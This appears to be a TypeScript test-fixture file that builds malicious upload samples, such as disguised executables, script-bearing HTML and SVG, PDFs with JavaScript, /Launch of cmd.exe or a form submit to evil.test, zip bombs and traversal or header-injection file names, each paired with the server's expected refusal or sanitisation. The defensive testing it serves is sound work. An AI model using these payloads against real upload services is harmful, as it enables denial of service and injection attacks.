import { deflateSync } from "node:zlib";
import ExcelJS from "exceljs";
import { docx, type Prepared, repeatedSpaces, zip } from "./zip.js";

/**
 * The malicious upload corpus, built here from nothing (no binary fixtures from elsewhere): what an
 * attacker or a careless sender would post to each upload endpoint. Each sample says what a safe
 * server does with it: refuse it with a 4xx problem, or keep it neutralised (a safe name with the
 * extension of the type read from the bytes, served only as an attachment).
 */
export type Expectation =
  | { outcome: "refused"; status: number; code: string }
  | { outcome: "neutralised"; mediaType: string; name: string };

export type Sample = { label: string; name: string; bytes: Buffer; expect: Expectation };

const refused = (status: number, code: string): Expectation => ({ outcome: "refused", status, code });
const kept = (mediaType: string, name: string): Expectation => ({ outcome: "neutralised", mediaType, name });

const MiB = 1024 * 1024;

// ——— Bytes of real formats, minimal ———

export const jpegBytes = Buffer.from([
  0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1,
]);
export const pngBytes = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82,
]);
const windowsProgram = Buffer.concat([
  Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "latin1"),
  Buffer.alloc(46),
  Buffer.from("This program cannot be run in DOS mode.\r\r\n$", "latin1"),
]);
const linuxProgram = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\x00", "latin1"), Buffer.alloc(56)]);
const scriptPage =
  "<!doctype html><html><body><script>fetch('/api/users').then(r=>r.text()).then(alert)</script></body></html>";
const scriptSvg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>`;

/** A PDF made of the given object bodies (`<< … >>` or streams), numbered from 1. */
export function pdf(...objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  objects.forEach((body, i) => {
    parts.push(
      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
      Buffer.isBuffer(body) ? body : Buffer.from(body, "latin1"),
    );
    parts.push(Buffer.from("\nendobj\n", "latin1"));
  });
  parts.push(Buffer.from("trailer\n<< /Root 1 0 R >>\n%%EOF\n", "latin1"));
  return Buffer.concat(parts);
}

const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>";
export const plainPdf = pdf(catalog, pages, page);

/** An object stream holding `inner` as its one object; `typeName` lets a test hex-escape /ObjStm. */
export function objectStream(inner: string, options: { typeName?: string; filter?: string } = {}): Buffer {
  const content = Buffer.from(`4 0 ${inner}`, "latin1");
  const data = options.filter === "none" ? content : deflateSync(content);
  const filter = options.filter === "none" ? "" : ` /Filter /${options.filter ?? "FlateDecode"}`;
  return Buffer.concat([
    Buffer.from(
      `<< /Type /${options.typeName ?? "ObjStm"} /N 1 /First 4${filter} /Length ${data.length} >>\nstream\n`,
      "latin1",
    ),
    data,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

const javaScriptAction = "<< /S /JavaScript /JS (app.alert\\('hi'\\)) >>";

// ——— Office files ———

/** A real workbook, written by exceljs. */
export async function workbook(rows: unknown[][]): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet("Sheet1");
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** A workbook whose first sheet is `sheetXml`, around the parts Excel needs. */
export function workbookWithSheet(
  sheetXml: string | { content: Buffer | string | Prepared; declare?: number },
): Buffer {
  const ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const pkg = "http://schemas.openxmlformats.org/package/2006/relationships";
  return zip({
    "[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    "_rels/.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${pkg}"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    "xl/workbook.xml": `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${ns}" xmlns:r="${rel}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${pkg}"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    "xl/worksheets/sheet1.xml": sheetXml,
  });
}

const inflatingTo = repeatedSpaces;

/** The archive-shaped attacks, as Excel or Word files. */
export function zipBombs(kind: "xlsx" | "docx"): Array<{ label: string; bytes: Buffer }> {
  const wrap = (entry: { content: Buffer | string | Prepared; declare?: number }) =>
    kind === "xlsx" ? workbookWithSheet(entry) : docx("", { "word/document.xml": entry });
  const manyEntries: Array<[string, string]> = Array.from({ length: 5000 }, (_, i) => [
    `customXml/item${i}.xml`,
    "<a/>",
  ]);
  return [
    { label: `${kind}: declares 256 MiB inflated`, bytes: wrap({ content: "<x/>", declare: 256 * MiB }) },
    {
      label: `${kind}: declares 1 KiB, inflates to 4 MiB`,
      bytes: wrap({ content: inflatingTo(4 * MiB), declare: 1024 }),
    },
    { label: `${kind}: 3 MiB at a ratio above 1000`, bytes: wrap({ content: inflatingTo(3 * MiB) }) },
    {
      label: `${kind}: 5,000 entries`,
      bytes: kind === "xlsx" ? zip([...manyEntries, ["xl/workbook.xml", "<workbook/>"]]) : zip(manyEntries),
    },
  ];
}

/** The finding as reported: 255 KB that inflate to 256 MiB, honestly declared. */
export function realBomb(kind: "xlsx" | "docx"): Buffer {
  const entry = { content: inflatingTo(256 * MiB) };
  return kind === "xlsx" ? workbookWithSheet(entry) : docx("", { "word/document.xml": entry });
}

// ——— Samples for the file upload endpoint ———

export function fileSamples(): Sample[] {
  const longName = `${"تقرير طويل جدا ".repeat(26)}.pdf`.slice(0, 400);
  return [
    // Renamed programs: refused by their bytes.
    {
      label: "Windows program named .pdf",
      name: "تقرير.pdf",
      bytes: windowsProgram,
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "Windows program named .exe",
      name: "setup.exe",
      bytes: windowsProgram,
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "Linux program named .jpg",
      name: "صورة.jpg",
      bytes: linuxProgram,
      expect: refused(415, "unsupported_file"),
    },
    // Pages and drawings that carry script: not an accepted type.
    {
      label: "HTML with script",
      name: "report.html",
      bytes: Buffer.from(scriptPage),
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "HTML named .pdf",
      name: "letter.pdf",
      bytes: Buffer.from(scriptPage),
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "SVG with script",
      name: "logo.svg",
      bytes: Buffer.from(scriptSvg),
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "SVG named .png",
      name: "logo.png",
      bytes: Buffer.from(scriptSvg),
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "GIF/JavaScript polyglot",
      name: "anim.gif",
      bytes: Buffer.from("GIF89a/*\x00\x00*/=1;alert(1)//", "latin1"),
      expect: refused(415, "unsupported_file"),
    },
    {
      label: "zip bomb as an attachment",
      name: "data.pdf",
      bytes: workbookWithSheet({ content: "<x/>", declare: 256 * MiB }),
      expect: refused(415, "unsupported_file"),
    },
    // Polyglots: a real image or PDF start with a page inside; kept as what the bytes start as.
    {
      label: "JPEG/HTML polyglot named .html",
      name: "photo.html",
      bytes: Buffer.concat([jpegBytes, Buffer.from(scriptPage)]),
      expect: kept("image/jpeg", "photo.jpg"),
    },
    {
      label: "PDF/HTML polyglot named .htm",
      name: "doc.htm",
      bytes: Buffer.concat([plainPdf, Buffer.from(scriptPage)]),
      expect: kept("application/pdf", "doc.pdf"),
    },
    // PDFs that would run something.
    ...(
      [
        [
          "JavaScript action",
          pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", pages, page, javaScriptAction),
        ],
        [
          "/OpenAction dictionary",
          pdf("<< /Type /Catalog /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>", pages, page),
        ],
        [
          "/AA page action",
          pdf(catalog, pages, "<< /Type /Page /AA << /O 4 0 R >> >>", "<< /S /GoTo /D [3 0 R] >>"),
        ],
        ["/Launch", pdf(catalog, pages, page, "<< /S /Launch /F (cmd.exe) >>")],
        [
          "/EmbeddedFile",
          pdf(catalog, pages, page, "<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
        ],
        ["/RichMedia", pdf(catalog, pages, page, "<< /Subtype /RichMedia >>")],
        ["/SubmitForm", pdf(catalog, pages, page, "<< /S /SubmitForm /F (https://evil.test) >>")],
        ["/J#61vaScript (hex-escaped)", pdf(catalog, pages, page, "<< /S /J#61vaScript /J#53 (x) >>")],
        ["/Open#41ction (hex-escaped)", pdf("<< /Type /Catalog /Open#41ction 4 0 R >>", pages, page)],
        [
          "JavaScript inside a compressed object stream",
          pdf(catalog, pages, page, objectStream(javaScriptAction)),
        ],
        [
          "JavaScript in an object stream named /Obj#53tm",
          pdf(catalog, pages, page, objectStream("<< /S /J#61vaScript /JS (x) >>", { typeName: "Obj#53tm" })),
        ],
        [
          "JavaScript in an uncompressed object stream",
          pdf(catalog, pages, page, objectStream(javaScriptAction, { filter: "none" })),
        ],
        [
          "object stream under a filter that cannot be inspected",
          pdf(catalog, pages, page, objectStream("<< >>", { filter: "LZWDecode" })),
        ],
      ] as const
    ).map(
      ([what, bytes]): Sample => ({
        label: `PDF with ${what}`,
        name: "form.pdf",
        bytes,
        expect: refused(422, "unsafe_file"),
      }),
    ),
    {
      // Above the size searched in place: this one is searched in a worker thread.
      label: "PDF of 600 KiB with JavaScript at its end",
      name: "big.pdf",
      bytes: pdf(
        catalog,
        pages,
        page,
        `<< /Length 614400 >>\nstream\n${"0".repeat(600 * 1024)}\nendstream`,
        javaScriptAction,
      ),
      expect: refused(422, "unsafe_file"),
    },
    {
      label: "PDF whose object stream inflates past the cap",
      name: "bomb.pdf",
      bytes: pdf(
        catalog,
        pages,
        page,
        Buffer.concat([
          Buffer.from("<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n", "latin1"),
          deflateSync(Buffer.alloc(9 * MiB, 0x20)),
          Buffer.from("\nendstream", "latin1"),
        ]),
      ),
      expect: refused(422, "unsafe_file"),
    },
    // A PDF that only opens on its first page, as Word writes it: nothing runs, it is kept.
    {
      label: "PDF opening at a page (destination array)",
      name: "minutes.pdf",
      bytes: pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", pages, page),
      expect: kept("application/pdf", "minutes.pdf"),
    },
    // Names: kept only as a safe display name with the detected extension.
    {
      label: "traversal",
      name: "../../etc/passwd",
      bytes: pngBytes,
      expect: kept("image/png", "passwd.png"),
    },
    {
      label: "Windows traversal",
      name: "..\\..\\windows\\system32\\drivers\\etc\\hosts",
      bytes: pngBytes,
      expect: kept("image/png", "hosts.png"),
    },
    {
      label: "NUL byte",
      name: "scan.pdf\u0000.exe",
      bytes: plainPdf,
      expect: kept("application/pdf", "scan.pdf"),
    },
    {
      label: "right-to-left override",
      name: "invoice\u202Efdp.hta",
      bytes: plainPdf,
      expect: kept("application/pdf", "invoicefdp.pdf"),
    },
    {
      label: "bidi isolates and zero-width marks",
      name: "\u2067صورة\u2069\u200B الهوية\u200F.exe",
      bytes: jpegBytes,
      expect: kept("image/jpeg", "صورة الهوية.jpg"),
    },
    {
      label: "HTML name on a PDF",
      name: "report.html",
      bytes: plainPdf,
      expect: kept("application/pdf", "report.pdf"),
    },
    {
      label: "double extension",
      name: "كشف.pdf.exe",
      bytes: plainPdf,
      expect: kept("application/pdf", "كشف.pdf"),
    },
    {
      label: "header injection",
      name: "a\r\nSet-Cookie: x=1.pdf",
      bytes: plainPdf,
      expect: kept("application/pdf", "aSet-Cookie x=1.pdf"),
    },
    { label: "only dots", name: "...", bytes: plainPdf, expect: kept("application/pdf", "file.pdf") },
    {
      label: "reserved device name",
      name: "CON.png",
      bytes: pngBytes,
      expect: kept("image/png", "file.png"),
    },
    {
      label: "400-character name",
      name: longName,
      bytes: plainPdf,
      expect: kept(
        "application/pdf",
        `${[...longName.replace(/\.pdf$/, "").trim()].slice(0, 120).join("").trim()}.pdf`,
      ),
    },
    {
      label: "401-character name",
      name: `${"ا".repeat(397)}.pdf`,
      bytes: plainPdf,
      expect: refused(400, "validation_failed"),
    },
  ];
}
